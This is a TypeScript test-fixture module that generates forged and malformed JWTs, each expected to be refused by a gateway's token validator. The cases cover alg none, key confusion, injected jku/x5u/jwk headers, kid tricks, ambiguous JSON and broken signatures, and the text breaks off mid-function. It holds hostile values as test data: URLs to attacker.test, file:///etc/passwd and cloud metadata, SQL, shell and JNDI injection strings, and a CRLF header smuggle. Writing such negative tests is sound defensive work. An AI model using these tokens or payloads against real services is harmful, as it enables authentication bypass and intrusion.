/** The known ways to twist a token, made for one live key: each is a case with a name, and each must be refused. */
import { createHash, createHmac, createPrivateKey, createPublicKey, createSign, generateKeyPairSync, sign } from 'node:crypto'
import { isHmac, shapes } from '../tokens/algorithms.ts'
import type { PublicJwk } from '../tokens/key-ring.ts'
import { curveOrders, forge, goodHeader, segment, signature, signSegments, type Pen } from './pen.ts'

export interface TwistedToken {
  readonly name: string
  readonly token: string
  /** GW_TOKEN_INVALID unless it is a good token that has expired. */
  readonly code: 'GW_TOKEN_INVALID' | 'GW_TOKEN_EXPIRED'
}

export interface Target {
  /** The live key: twists of the contents are signed with it, so that the reading alone can refuse them. */
  readonly pen: Pen
  readonly publicJwk: PublicJwk | null
  /** The header of such a token, where it is not that of our own. */
  readonly header?: Readonly<Record<string, unknown>>
  /** The claims of a token that would be accepted. */
  readonly claims: Readonly<Record<string, unknown>>
  readonly nowSeconds: number
  /** Seconds that the gateway forgives clocks; a few by default. */
  readonly tolerance?: number
}

export function twistedTokens (target: Target): TwistedToken[] {
  return [
    ...unsignedTokens(target),
    ...otherAlgorithms(target),
    ...confusedKeys(target),
    ...headersThatBringKeys(target),
    ...headersThatChangeTheReading(target),
    ...otherTypes(target),
    ...kidTricks(target),
    ...otherShapes(target),
    ...otherSpellings(target),
    ...ambiguousJson(target),
    ...payloadsThatAreNoObjects(target),
    ...missingClaims(target),
    ...otherIssuersAndAudiences(target),
    ...wronglyTypedClaims(target),
    ...impossibleTimes(target),
    ...expiredTokens(target),
    ...brokenSignatures(target),
    ...tokensOfAnotherKind(target),
  ]
}

/** RFC 8725 §2.1, CVE-2015-2951, CVE-2022-23540: `none` in every spelling, with no signature, with a good one, with rubbish. */
export function unsignedTokens ({ pen, claims, header: good = goodHeader(pen) }: Target): TwistedToken[] {
  const spellings = ['none', 'None', 'NONE', 'nOnE', 'nonE', 'NoNe', ' none', 'none ', 'none\u0000', 'ｎｏｎｅ', '', null, false, 0, [], ['none'], {}, [pen.algorithm, 'none']]
  return spellings.flatMap((alg) => {
    const header = segment({ ...good, alg })
    const payload = segment(claims)
    return [
      invalid(`alg ${show(alg)} without a signature`, `${header}.${payload}.`),
      invalid(`alg ${show(alg)} without a third part`, `${header}.${payload}`),
      invalid(`alg ${show(alg)} with a good signature`, signSegments(pen, header, payload)),
      invalid(`alg ${show(alg)} with rubbish for a signature`, `${header}.${payload}.${randomSignature(pen)}`),
    ]
  })
}

/** RFC 8725 §3.1: names of other algorithms, other cases of ours, none at all: all with a good signature of the live key. */
export function otherAlgorithms ({ pen, claims }: Target): TwistedToken[] {
  const names = [...Object.keys(shapes).filter((name) => name !== pen.algorithm), 'ES256K', 'Ed25519', 'Ed448', 'RSA-OAEP', 'dir', 'A256GCM', 'MD5', 'HS1', 'RS1',
    pen.algorithm.toLowerCase(), `${pen.algorithm} `, ` ${pen.algorithm}`, `${pen.algorithm}\u0000`, `${pen.algorithm.slice(0, 2)}-${pen.algorithm.slice(2)}`, 'constructor', '__proto__', 'toString']
    .filter((name) => name !== pen.algorithm)
  const odd: unknown[] = [true, 256, [pen.algorithm], [[pen.algorithm]], { toString: pen.algorithm }]
  const { alg: _, ...without } = goodHeader(pen)
  return [
    ...[...names, ...odd].map((alg) => invalid(`alg ${show(alg)} with a good signature`, forge(pen, { ...goodHeader(pen), alg }, claims))),
    invalid('no alg with a good signature', forge(pen, without, claims)),
  ]
}

/** CVE-2015-9235 and its line, fast-jwt GHSA-ww5h-9m49-7xx4 and GHSA-g3jj-5cmm-3hxx: what is public, taken for an HMAC secret. */
export function confusedKeys ({ pen, publicJwk, claims, header: good = goodHeader(pen) }: Target): TwistedToken[] {
  const secrets: [string, string | Buffer][] = [['the empty secret', ''], ['the kid', pen.kid], ['the issuer', String(claims['iss'])], ['"secret"', 'secret']]
  if (publicJwk !== null) {
    const publicKey = createPublicKey({ key: { ...publicJwk }, format: 'jwk' })
    const pem = String(publicKey.export({ type: 'spki', format: 'pem' }))
    const { kid: _k, alg: _a, use: _u, ...members } = publicJwk
    secrets.push(
      ['the public PEM', pem],
      ['the public PEM, trimmed', pem.trim()],
      ['the public PEM, one line', pem.replaceAll('\n', '')],
      ['the public PEM, CRLF', pem.replaceAll('\n', '\r\n')],
      ['the public PEM, indented', ` ${pem}`],
      ['the body of the public PEM', pem.replace(/-----[^-]+-----|\n/g, '')],
      ['the public DER', publicKey.export({ type: 'spki', format: 'der' })],
      ['the published JWK', JSON.stringify(publicJwk)],
      ['the bare JWK', JSON.stringify(members)],
      ['the published JWKS', JSON.stringify({ keys: [publicJwk] })],
      ['the public number', Buffer.from(publicJwk.n ?? publicJwk.x ?? '', 'base64url')]
    )
    if (publicJwk.kty === 'RSA') secrets.push(['the public PEM, PKCS #1', String(publicKey.export({ type: 'pkcs1', format: 'pem' }))])
  }
  return secrets.flatMap(([name, secret]) => (['HS256', 'HS384', 'HS512'] as const).flatMap((alg) => {
    const header = segment({ ...good, alg })
    const input = `${header}.${segment(claims)}`
    return [
      invalid(`${alg} under ${name}`, `${input}.${hmac(alg, secret, input)}`),
      // The header keeps the right algorithm; only the signature is an HMAC.
      invalid(`${alg} under ${name}, said to be ${pen.algorithm}`, macOf(good, alg, secret, claims)),
    ]
  }))
}

/** RFC 8725 §3.10, CVE-2018-0114: a key that comes with the token, signed by it, and signed by the live one. */
export function headersThatBringKeys ({ pen, claims }: Target): TwistedToken[] {
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const own: Pen = { algorithm: 'ES256', key: String(privateKey.export({ type: 'pkcs8', format: 'pem' })), kid: pen.kid }
  const jwk = publicKey.export({ format: 'jwk' })
  const parameters: [string, unknown][] = [
    ['jwk', jwk], ['jwk', null], ['jwk', {}], ['jwk', { kty: 'oct', k: 'AA' }], ['jku', 'https://attacker.test/jwks.json'], ['jku', ''], ['jku', 'file:///etc/passwd'], ['jku', 'http://169.254.169.254/latest/meta-data'],
    ['x5u', 'https://attacker.test/x.pem'], ['x5c', ['MIIB']], ['x5c', []], ['x5t', 'AAAA'], ['x5t#S256', 'AAAA'], ['keys', [jwk]], ['key', 'k'], ['secret', ''], ['pem', '-----BEGIN PUBLIC KEY-----'],
  ]
  return parameters.flatMap(([name, value]) => [
    invalid(`${name} ${show(value)}, signed with the key it brings`, forge(own, { ...goodHeader(pen), alg: 'ES256', [name]: value }, claims)),
    invalid(`${name} ${show(value)}, signed with the live key`, forge(pen, { ...goodHeader(pen), [name]: value }, claims)),
  ]).concat(
    invalid('signed with another key of the same algorithm and our kid', forge(otherPen(pen), goodHeader(pen), claims)),
    invalid('our kid and algorithm, signed with an ES256 key', forge(own, { ...goodHeader(pen) }, claims))
  )
}

/** RFC 7515 §4.1.11, RFC 7797, CVE-2026-35042: parameters that would change how the rest is read. Signed with the live key. */
export function headersThatChangeTheReading ({ pen, claims }: Target): TwistedToken[] {
  const crits: unknown[] = [null, false, true, 0, 1, '', 'exp', [], ['exp'], ['alg'], ['kid'], ['b64'], ['foo'], ['exp', 'exp'], [null], [''], {}, { 0: 'exp' }, [['exp']]]
  const unencoded = { ...goodHeader(pen), b64: false, crit: ['b64'] }
  const raw = JSON.stringify(claims).replaceAll('.', '')
  const rawInput = `${segment(unencoded)}.${raw}`
  return [
    ...crits.map((crit) => invalid(`crit ${show(crit)}`, forge(pen, { ...goodHeader(pen), crit }, claims))),
    invalid('crit names a parameter that is there', forge(pen, { ...goodHeader(pen), foo: 1, crit: ['foo'] }, claims)),
    ...[true, false, null, 'false', 0].map((b64) => invalid(`b64 ${show(b64)}`, forge(pen, { ...goodHeader(pen), b64 }, claims))),
    invalid('b64 false with crit', forge(pen, unencoded, claims)),
    invalid('b64 false with the payload as it is', `${rawInput}.${signature(pen, rawInput).toString('base64url')}`),
    ...['DEF', 'GZIP', null, ''].map((zip) => invalid(`zip ${show(zip)}`, forge(pen, { ...goodHeader(pen), zip }, claims))),
    ...['JWT', 'json', '', null, 'application/jwt'].map((cty) => invalid(`cty ${show(cty)}`, forge(pen, { ...goodHeader(pen), cty }, claims))),
    ...['enc', 'epk', 'apu', 'apv', 'iv', 'tag', 'p2s', 'p2c', 'ppt', 'url', 'nonce', 'iss', 'sub', 'aud', 'exp', 'foo', 'ALG', 'Alg', 'Kid', 'TYP', 'alg ', 'constructor', 'toString', ''].map((name) =>
      invalid(`a header parameter ${show(name)}`, forge(pen, { ...goodHeader(pen), [name]: 'x' }, claims))),
    invalid('a header member __proto__', forge(pen, JSON.stringify(goodHeader(pen)).replace('{', '{"__proto__":{"crit":1},'), claims)),
  ]
}

/** RFC 8725 §3.11: a token made for another purpose, signed with the same key. */
export function otherTypes ({ pen, claims }: Target): TwistedToken[] {
  const types: unknown[] = ['JWT', 'jwt', 'id_token', 'AT+JWT', 'at+JWT', 'application/at+jwt', 'at+jwt ', ' at+jwt', 'at+jwt\u0000', 'at jwt', 'at%2Bjwt', 'rt+jwt', 'dpop+jwt', 'logout+jwt', 'secevent+jwt',
    'token-introspection+jwt', 'JOSE', 'JOSE+JSON', '', null, true, 1, ['at+jwt'], { typ: 'at+jwt' }]
  const { typ: _, ...without } = goodHeader(pen)
  return [
    ...types.map((typ) => invalid(`typ ${show(typ)}`, forge(pen, { ...goodHeader(pen), typ }, claims))),
    invalid('no typ', forge(pen, without, claims)),
  ]
}

/** RFC 8725 §3.10: the kid as a path, a query, a command, a member of every object, or nothing. Signed with the live key. */
export function kidTricks ({ pen, claims }: Target): TwistedToken[] {
  const { kid } = pen
  const kids: unknown[] = [
    'unknown', '', ' ', '/dev/null', '../../../../../../dev/null', '/proc/self/environ', 'file:///etc/passwd', 'https://attacker.test/key', '..\\..\\windows\\win.ini', '%2e%2e%2fkey', '.', '..',
    "' OR '1'='1", "x' UNION SELECT 'secret' -- ", "'; DROP TABLE keys; --", '1', '%', '_', '*', '| id', '$(id)', '`id`', '; sleep 10', '{{7*7}}', '${jndi:ldap://attacker.test/a}',
    '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'length', '0', 'undefined', 'null', 'default',
    kid.toUpperCase(), kid.toLowerCase(), `${kid} `, ` ${kid}`, `${kid}\n`, `${kid}\u0000`, `${kid}\u0000.pem`, `${kid}=`, kid.slice(0, -1), `${kid}A`, `${kid},${kid}`, kid.normalize('NFKD') + '\u0301', 'k'.repeat(40), 'l'.repeat(5000),
    [kid], [[kid]], [], { kid }, { toString: kid }, null, true, false, 0, 1, -1, 1.5,
  ]
  const { kid: _, ...without } = goodHeader(pen)
  const emptyHmac = segment({ alg: 'HS256', typ: 'at+jwt', kid: '/dev/null' })
  return [
    ...kids.filter((other) => other !== kid).map((other) => invalid(`kid ${show(other)}`, forge(pen, { ...goodHeader(pen), kid: other }, claims))),
    invalid('no kid', forge(pen, without, claims)),
    invalid('kid of a file that is empty, HMAC under the empty secret', `${emptyHmac}.${segment(claims)}.${hmac('HS256', '', `${emptyHmac}.${segment(claims)}`)}`),
  ]
}

/** Anything but three parts: cut, grown, empty, another serialization, a JWE, a token in a token. */
export function otherShapes ({ pen, claims }: Target): TwistedToken[] {
  const good = forge(pen, goodHeader(pen), claims)
  const { header, payload, signature: signed } = partsOf(good)
  const jwe = segment({ alg: 'dir', enc: 'A256GCM', typ: 'at+jwt', kid: pen.kid })
  return [
    invalid('nothing', ''), invalid('one dot', '.'), invalid('two dots', '..'), invalid('three dots', '...'), invalid('four dots', '....'), invalid('a thousand dots', '.'.repeat(1000)),
    invalid('one part', header), invalid('two parts', `${header}.${payload}`), invalid('two parts and a dot', `${header}.${payload}.`), invalid('no header', `.${payload}.${signed}`), invalid('no payload', `${header}..${signed}`),
    invalid('payload and signature', `${payload}.${signed}`), invalid('parts in another order', `${payload}.${header}.${signed}`), invalid('signature alone', `..${signed}`),
    invalid('a dot behind', `${good}.`), invalid('a dot before', `.${good}`), invalid('a fourth part', `${good}.${signed}`), invalid('an empty fourth part', `${header}.${payload}..${signed}`),
    invalid('five parts', `${header}.${payload}.${signed}.${payload}.${signed}`), invalid('five parts, two of them empty', `${header}..${payload}..${signed}`),
    invalid('a JWE', `${jwe}..${segment('iv-iv-iv-iv-')}.${payload}.${segment('tag-tag-tag-tag-')}`), invalid('a JWE header in three parts', signSegments(pen, jwe, payload)),
    invalid('flattened JSON serialization', JSON.stringify({ protected: header, payload, signature: signed })),
    invalid('general JSON serialization', JSON.stringify({ payload, signatures: [{ protected: header, signature: signed }] })),
    invalid('a token in a token', forge(pen, goodHeader(pen), good)), invalid('a token in a token, said so', forge(pen, { ...goodHeader(pen), cty: 'JWT' }, good)),
    invalid('a token encoded once more', segment(good)), invalid('two tokens', `${good} ${good}`), invalid('two tokens with a comma', `${good},${good}`), invalid('two tokens run together', good + good),
    invalid('with its scheme', `Bearer ${good}`), invalid('in quotation marks', `"${good}"`), invalid('dots percent-encoded', good.replaceAll('.', '%2E')), invalid('dots that only look so', good.replaceAll('.', '。')),
    invalid('colons for dots', good.replaceAll('.', ':')), invalid('longer than a token may be', forge(pen, goodHeader(pen), { ...claims, filler: 'x'.repeat(8192) })),
    invalid('a megabyte', forge(pen, goodHeader(pen), { ...claims, filler: 'x'.repeat(1024 * 1024) })), invalid('a megabyte of A', 'A'.repeat(1024 * 1024)), invalid('an empty object for a header', forge(pen, {}, claims)),
    ...['[]', '"x"', '1', 'null', 'true', 'x', ''].map((text) => invalid(`header ${show(text)}`, forge(pen, text, claims))),
    invalid('the header as an array of itself', forge(pen, [goodHeader(pen)], claims)),
  ]
}

/** RFC 4648 §3, RFC 7515 §2: other spellings of the same bytes. Where it can be, the twist itself is what was signed. */
export function otherSpellings ({ pen, claims }: Target): TwistedToken[] {
  // A payload whose length leaves spare bits in its last character; likewise the header, by a space that JSON allows.
  const header = withSpareBits(JSON.stringify(goodHeader(pen)))
  const payload = withSpareBits(JSON.stringify(claims))
  const good = signSegments(pen, header, payload)
  const signed = partsOf(good).signature
  const cases: TwistedToken[] = []
  for (const twin of trailingBitTwins(header)) cases.push(invalid(`spare bits in the header (${twin.slice(-1)})`, signSegments(pen, twin, payload)))
  for (const twin of trailingBitTwins(payload)) cases.push(invalid(`spare bits in the payload (${twin.slice(-1)})`, signSegments(pen, header, twin)))
  for (const twin of trailingBitTwins(signed)) cases.push(invalid(`spare bits in the signature (${twin.slice(-1)})`, `${header}.${payload}.${twin}`))
  for (const [name, extra] of [['padding', '='], ['double padding', '=='], ['four of padding', '===='], ['a space', ' '], ['a line feed', '\n'], ['CR LF', '\r\n'], ['a tab', '\t'], ['a NUL', '\u0000'], ['a no-break space', '\u00a0'], ['a zero-width space', '\u200b'],
    ['a byte-order mark', '\ufeff'], ['one more A', 'A'], ['a plus', '+'], ['a slash', '/'], ['a percent sign', '%'], ['a letter from beyond Latin-1', '\u0141'], ['a full-width letter', 'Ａ'], ['a surrogate', '\ud800']] as const) {
    cases.push(
      invalid(`${name} behind the header`, signSegments(pen, header + extra, payload)),
      invalid(`${name} behind the payload`, signSegments(pen, header, payload + extra)),
      invalid(`${name} behind the signature`, good + extra),
      invalid(`${name} before the token`, extra + good),
      invalid(`${name} inside the header`, signSegments(pen, header.slice(0, 8) + extra + header.slice(8), payload)),
      invalid(`${name} inside the payload`, signSegments(pen, header, payload.slice(0, 8) + extra + payload.slice(8))),
      invalid(`${name} inside the signature`, `${header}.${payload}.${signed.slice(0, 8)}${extra}${signed.slice(8)}`)
    )
  }
  const ones = Buffer.from(JSON.stringify({ ...claims, filler: '~~~???~~~???>>>' })).toString('base64').replace(/=+$/, '')
  if (/[+/]/.test(ones)) cases.push(invalid('the payload in the other alphabet', signSegments(pen, header, ones)))
  const standard = signed.replaceAll('-', '+').replaceAll('_', '/')
  if (standard !== signed) cases.push(invalid('the signature in the other alphabet', `${header}.${payload}.${standard}`))
  cases.push(invalid('the payload in hex', signSegments(pen, header, Buffer.from(JSON.stringify(claims)).toString('hex'))))
  return cases
}

/** RFC 8259 §4, RFC 7519 §4: JSON that two readers understand differently. Signed with the live key. */
export function ambiguousJson ({ pen, claims }: Target): TwistedToken[] {
  const text = JSON.stringify(claims)
  const header = JSON.stringify(goodHeader(pen))
  const put = (first: string): string => text.replace('{', `{${first},`)
  const payloads: [string, string | Buffer][] = [
    ...Object.keys(claims).flatMap((name): [string, string][] => [
      [`${name} twice, the first another's`, put(`${JSON.stringify(name)}:"other"`)],
      [`${name} twice, the last another's`, text.replace(/\}$/, `,${JSON.stringify(name)}:"other"}`)],
      [`${name} twice, both the same`, put(`${JSON.stringify(name)}:${JSON.stringify(claims[name])}`)],
    ]),
    ['sub twice, once escaped', put('"s\\u0075b":"admin"')], ['sub twice, the last escaped', text.replace(/\}$/, ',"\\u0073ub":"admin"}')], ['a member twice, deep inside', put('"a":{"b":[{"c":1,"d":2,"c":3}]}')],
    ['a member twice in an object in a list', put('"a":[{"x":1},{"y":1,"y":1}]')], ['an empty name twice', put('"":1,"":2')], ['a member __proto__', put('"__proto__":{"roles":["admin"]}')], ['a member __proto__, escaped', put('"__pro\\u0074o__":{"roles":["admin"]}')], ['a member __proto__, deep inside', put('"a":{"__proto__":{}}')],
    ['a byte-order mark', Buffer.from(`\ufeff${text}`)], ['a byte that is no UTF-8', withBytes(text, [0xff])], ['an overlong slash', withBytes(text, [0xc0, 0xaf])], ['an overlong quotation mark', withBytes(text, [0xc0, 0xa2])], ['a surrogate in UTF-8', withBytes(text, [0xed, 0xa0, 0x80])],
    ['a character cut short', withBytes(text, [0xe2, 0x82])], ['a lone continuation', withBytes(text, [0x80])], ['beyond Unicode', withBytes(text, [0xf4, 0x90, 0x80, 0x80])], ['UTF-16', Buffer.from(text, 'utf16le')], ['UTF-16 with its mark', Buffer.from(`\ufeff${text}`, 'utf16le')], ['Latin-1', Buffer.from(put('"name":"Zoë"'), 'latin1')],
    ['a trailing comma', text.replace(/\}$/, ',}')], ['a comment', put('"a":1/**/')], ['a line comment', `${text}//`], ['single quotes', text.replaceAll('"', "'")], ['names without quotes', text.replaceAll(/"(\w+)":/g, '$1:')], ['NaN', put('"a":NaN')], ['Infinity', put('"a":Infinity')], ['undefined', put('"a":undefined')],
    ['a leading zero', put('"a":01')], ['a plus sign', put('"a":+1')], ['a hex number', put('"a":0x1')], ['a bare point', put('"a":.5')], ['an octal escape', put('"a":"\\101"')], ['a raw line feed in text', put('"a":"\n"')], ['a raw NUL in text', put('"a":"\u0000"')],
    ['another object behind', `${text}{}`], ['text behind', `${text}x`], ['a NUL behind', `${text}\u0000`], ['cut short', text.slice(0, -1)], ['a vertical tab before', `\v${text}`], ['a no-break space before', `\u00a0${text}`], ['a prefix against inclusion', `)]}',\n${text}`],
    ['17 levels of lists', put(`"a":${'['.repeat(17)}${']'.repeat(17)}`)], ['17 levels of objects', put(`"a":${'{"a":'.repeat(17)}1${'}'.repeat(17)}`)], ['2500 levels of lists', put(`"a":${'['.repeat(2500)}${']'.repeat(2500)}`)],
    ['2500 lists that are not closed', `{"a":${'['.repeat(2500)}`], ['700 levels of objects', put(`"a":${'{"a":'.repeat(700)}1${'}'.repeat(700)}`)],
  ]
  const headers: [string, string | Buffer][] = [
    ...['alg', 'typ', 'kid'].flatMap((name): [string, string][] => [
      [`${name} twice, the first another's`, header.replace('{', `{"${name}":"none",`)],
      [`${name} twice, the last another's`, header.replace(/\}$/, `,"${name}":"none"}`)],
      [`${name} twice, both the same`, header.replace('{', `{"${name}":${JSON.stringify(goodHeader(pen)[name])},`)],
    ]),
    ['alg twice, once escaped', header.replace('{', '{"\\u0061lg":"none",')], ['a byte-order mark', `\ufeff${header}`], ['a byte that is no UTF-8', withBytes(header, [0xff])], ['UTF-16', Buffer.from(header, 'utf16le')], ['text behind', `${header}x`], ['a trailing comma', header.replace(/\}$/, ',}')], ['a comment', header.replace('{', '{/**/')], ['2000 lists', '['.repeat(2000) + ']'.repeat(2000)],
  ]
  return [
    ...payloads.map(([name, content]) => invalid(`payload: ${name}`, forge(pen, header, content))),
    ...headers.map(([name, content]) => invalid(`header: ${name}`, forge(pen, content, text))),
  ]
}

export function payloadsThatAreNoObjects ({ pen, claims }: Target): TwistedToken[] {
  const payloads = ['[]', '[{}]', JSON.stringify([claims]), JSON.stringify(Object.values(claims)), '""', '"sub"', JSON.stringify(JSON.stringify(claims)), '0', '1', 'null', 'true', 'false', '', ' ', '{}', 'sub=user-1', '<sub>user-1</sub>']
  return payloads.map((payload) => invalid(`payload ${show(payload.slice(0, 24))}`, forge(pen, goodHeader(pen), payload)))
}

/** RFC 8725 §3.8–3.9, nearform/fast-jwt#182: a constraint that holds because its claim is absent. */
export function missingClaims ({ pen, claims }: Target): TwistedToken[] {
  const needed = ['iss', 'sub', 'aud', 'exp', 'iat', 'sid']
  const without = (names: readonly string[]): Record<string, unknown> => Object.fromEntries(Object.entries(claims).filter(([name]) => !names.includes(name)))
  return [
    ...needed.map((name) => invalid(`no ${name}`, forge(pen, goodHeader(pen), without([name])))),
    ...needed.filter((name) => name !== 'exp' && name !== 'iat').map((name) => invalid(`${name} null`, forge(pen, goodHeader(pen), { ...claims, [name]: null }))),
    ...needed.map((name) => invalid(`${name} in another case`, forge(pen, goodHeader(pen), { ...without([name]), [name.toUpperCase()]: claims[name] }))),
    ...needed.map((name) => invalid(`${name} with a space`, forge(pen, goodHeader(pen), { ...without([name]), [`${name} `]: claims[name] }))),
    invalid('neither iss nor aud', forge(pen, goodHeader(pen), without(['iss', 'aud']))),
    invalid('neither exp nor iat', forge(pen, goodHeader(pen), without(['exp', 'iat']))),
    invalid('claims inside another member', forge(pen, goodHeader(pen), { claims })),
  ]
}

/** RFC 8725 §3.8–3.9: near misses of issuer and audience, and tokens of another environment that has the same key. */
export function otherIssuersAndAudiences ({ pen, claims }: Target): TwistedToken[] {
  return ['iss', 'aud'].flatMap((name) => {
    const right = String(claims[name])
    const others: unknown[] = [
      '', ' ', 'other', 'https://staging.gateway.test', right.toUpperCase() === right ? right.toLowerCase() : right.toUpperCase(), `${right}/`, `${right} `, ` ${right}`, `${right}\u0000`, `${right}\n`, `${right}x`, `x${right}`, right.slice(0, -1), right.slice(1), `${right} other`, `${right},other`,
      `${right}.attacker.test`, `${right}@attacker.test`, `https://attacker.test/${right}`, `.*${right}.*`, '.*', '*', `${right}\u200b`,
      [right], [right, 'other'], ['other', right], [right, null], [right, right], [[right]], [], {}, { [right]: true }, { 0: right, length: 1 }, { toString: right }, 0, 1, true, false,
    ]
    return others.map((other) => invalid(`${name} ${show(other)}`, forge(pen, goodHeader(pen), { ...claims, [name]: other })))
  }).concat(invalid('another environment: both are other', forge(pen, goodHeader(pen), { ...claims, iss: 'https://staging.gateway.test', aud: 'staging-api' })))
}

/** Subjects and the rest, of the wrong type or with bytes in them that headers and logs break on. */
export function wronglyTypedClaims ({ pen, claims }: Target): TwistedToken[] {
  const texts = ['sub', 'sid', 'jti', 'client_id'].flatMap((name) => {
    const values: unknown[] = ['', [claims[name]], [], {}, { toString: 'x' }, 0, 1, -1, true, false, 'x\r\nX-User-Id: admin', 'x\ny', 'x\u0000', '\u007f', '\u0085', 'x\u2028y', '\ud800', 'x\udc00y', 'x'.repeat(513)]
    return values.map((value) => invalid(`${name} ${show(value)}`, forge(pen, goodHeader(pen), { ...claims, [name]: value })))
  })
  const roles: unknown[] = ['admin', 'admin,reader', null, 1, true, {}, { 0: 'admin', length: 1 }, [1], [null], [['admin']], [{}], ['reader', 1]]
  const scopes: unknown[] = [null, 1, true, {}, [], ['read'], [['read']]]
  return [
    ...texts,
    ...roles.map((value) => invalid(`roles ${show(value)}`, forge(pen, goodHeader(pen), { ...claims, roles: value }))),
    ...scopes.map((value) => invalid(`scope ${show(value)}`, forge(pen, goodHeader(pen), { ...claims, scope: value }))),
  ]
}

/** RFC 7519 §2 (NumericDate): times that are no times, that never come, or that have not come yet. As text, for JSON has numbers that JavaScript has not. */
export function impossibleTimes ({ pen, claims, nowSeconds, tolerance = 0 }: Target): TwistedToken[] {
  const soon = nowSeconds + 300
  const strange = ['null', 'true', 'false', '""', '"never"', `"${soon}"`, `" ${soon}"`, `"${new Date(soon * 1000).toISOString()}"`, '[]', `[${soon}]`, '{}', `{"valueOf":${soon}}`, `${soon}.5`, `${soon}.000001`, '1e400', '-1e400', '1e308', '-1e308', '1e21', '9007199254740992', '9007199254740993', '18446744073709551616', '-0', '0', '-1', `-${soon}`, '0.0', '5e-324']
  const withText = (name: string, text: string): string => JSON.stringify({ ...claims, [name]: '§' }).replace('"§"', text)
  const far = ['9007199254740991', `${soon * 1000}`, `${soon}000000`, '253402300800', '99999999999', '4102444800000']
  return [
    ...[...strange, ...far].map((text) => invalid(`exp ${text}`, forge(pen, goodHeader(pen), withText('exp', text)))),
    ...[...strange, ...far, `${nowSeconds + 60 + tolerance}`, `${soon + tolerance}`].map((text) => invalid(`iat ${text}`, forge(pen, goodHeader(pen), withText('iat', text)))),
    ...[...strange, ...far, `${nowSeconds + 60 + tolerance}`, `${soon + tolerance}`].map((text) => invalid(`nbf ${text}`, forge(pen, goodHeader(pen), withText('nbf', text)))),
    invalid('iat of the year 1970, so a life of many years', forge(pen, goodHeader(pen), { ...claims, iat: 1 })),
  ]
}

/** A good token that has expired says so; one with anything else wrong does not, so that nobody learns from it. */
export function expiredTokens ({ pen, claims, nowSeconds: now, tolerance = 0 }: Target): TwistedToken[] {
  // Beyond what the clocks may differ.
  const nowSeconds = now - tolerance
  const expired = { ...claims, iat: nowSeconds - 900, exp: nowSeconds - 600 }
  const good = forge(pen, goodHeader(pen), expired)
  const { header, payload } = partsOf(good)
  return [
    ...[60, 600, 86_400, 30 * 86_400].map((ago): TwistedToken => ({ name: `expired ${ago} s ago`, token: forge(pen, goodHeader(pen), { ...claims, iat: nowSeconds - ago - 300, exp: nowSeconds - ago }), code: 'GW_TOKEN_EXPIRED' })),
    { name: 'expired before it was issued', token: forge(pen, goodHeader(pen), { ...claims, iat: nowSeconds, exp: nowSeconds - 60 }), code: 'GW_TOKEN_EXPIRED' },
    { name: 'expired in 1970', token: forge(pen, goodHeader(pen), { ...claims, iat: 1, exp: 1 }), code: 'GW_TOKEN_EXPIRED' },
    invalid('expired and the signature is rubbish', `${header}.${payload}.${randomSignature(pen)}`),
    invalid('expired and without a signature', `${header}.${payload}.`),
    invalid('expired and another key', forge(otherPen(pen), goodHeader(pen), expired)),
    invalid('expired and an unknown kid', forge(pen, { ...goodHeader(pen), kid: 'unknown' }, expired)),
    invalid('expired and alg none', `${segment({ ...goodHeader(pen), alg: 'none' })}.${payload}.`),
    invalid('expired and of another issuer', forge(pen, goodHeader(pen), { ...expired, iss: 'https://other.test' })),
    invalid('expired and for another audience', forge(pen, goodHeader(pen), { ...expired, aud: 'other' })),
    invalid('expired and an id token', forge(pen, { ...goodHeader(pen), typ: 'JWT' }, expired)),
    invalid('expired and not valid yet', forge(pen, goodHeader(pen), { ...expired, nbf: now + 600 + tolerance })),
    invalid('expired and its life moved by hand', `${header}.${segment({ ...expired, exp: nowSeconds + 600 })}.${partsOf(good).signature}`),
  ]
}

/** RFC 7515 §5.2, CVE-2022-21449: signatures that are almost, or of something else, or of nothing. */
export function brokenSignatures ({ pen, claims }: Target): TwistedToken[] {
  const good = forge(pen, goodHeader(pen), claims)
  const { header, payload, signature: signed } = partsOf(good)
  const input = `${header}.${payload}`
  const bytes = Buffer.from(signed, 'base64url')
  const withSignature = (name: string, changed: Uint8Array): TwistedToken => invalid(name, `${input}.${Buffer.from(changed).toString('base64url')}`)
  const cases = [
    ...Array.from({ length: 16 }, (_, place) => withSignature(`one bit turned (${place})`, flip(bytes, Math.floor(place * bytes.length / 16), place % 8))),
    withSignature('one byte short', bytes.subarray(0, -1)), withSignature('one byte short in front', bytes.subarray(1)), withSignature('half of it', bytes.subarray(0, bytes.length / 2)), withSignature('one byte', bytes.subarray(0, 1)),
    withSignature('a zero byte more', Buffer.concat([bytes, Buffer.alloc(1)])), withSignature('a zero byte in front', Buffer.concat([Buffer.alloc(1), bytes])), withSignature('twice', Buffer.concat([bytes, bytes])),
    withSignature('all zero', Buffer.alloc(bytes.length)), withSignature('all ones', Buffer.alloc(bytes.length, 0xff)), withSignature('one, small', Buffer.concat([Buffer.alloc(bytes.length - 1), Buffer.of(1)])),
    withSignature('of an empty text', signature(pen, '')), withSignature('of the payload alone', signature(pen, payload)), withSignature('of the header alone', signature(pen, header)), withSignature('of the decoded text', signature(pen, `${JSON.stringify(goodHeader(pen))}.${JSON.stringify(claims)}`)),
    withSignature('of another token', signature(pen, `${header}.${segment({ ...claims, sub: 'mallory' })}`)), withSignature('a bare hash', createHash('sha512').update(input).digest().subarray(0, bytes.length)), withSignature('as text in hex', Buffer.from(bytes.toString('hex'))),
    invalid('another subject under a good signature', `${header}.${segment({ ...claims, sub: 'mallory' })}.${signed}`), invalid('more roles under a good signature', `${header}.${segment({ ...claims, roles: ['admin'] })}.${signed}`), invalid('a longer life under a good signature', `${header}.${segment({ ...claims, exp: Number(claims['exp']) + 60 })}.${signed}`),
    invalid('the same claims in another order under a good signature', `${header}.${segment(Object.fromEntries(Object.entries(claims).reverse()))}.${signed}`), invalid('the same header in another order under a good signature', `${segment(Object.fromEntries(Object.entries(goodHeader(pen)).reverse()))}.${payload}.${signed}`),
  ]
  const shape = shapes[pen.algorithm]
  if (shape.kind === 'ec') {
    const half = bytes.length / 2
    const r = bytes.subarray(0, half)
    const s = bytes.subarray(half)
    const zero = Buffer.alloc(half)
    const order = Buffer.from(curveOrders[shape.curve].padStart(half * 2, '0'), 'hex')
    const key = createPrivateKey(pen.key)
    cases.push(
